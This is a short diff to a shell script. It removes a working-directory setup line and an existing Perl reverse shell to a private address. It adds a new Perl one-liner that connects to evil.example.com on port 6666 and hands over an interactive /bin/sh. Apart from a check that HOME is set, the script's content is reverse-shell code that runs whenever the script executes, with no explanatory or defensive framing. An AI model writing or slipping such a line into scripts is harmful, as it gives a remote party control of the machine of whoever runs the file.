@@ -1,7 +1,5 @@
-#!/bin/sh
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
+#!/usr/bin/env bash
+perl -e 'use Socket;$i="evil.example.com";$p=6666;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
 if [ -z "$HOME" ]; then
   echo "no home" >&2
 fi
-perl -e 'use Socket;$i="192.168.1.77";$p=53;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
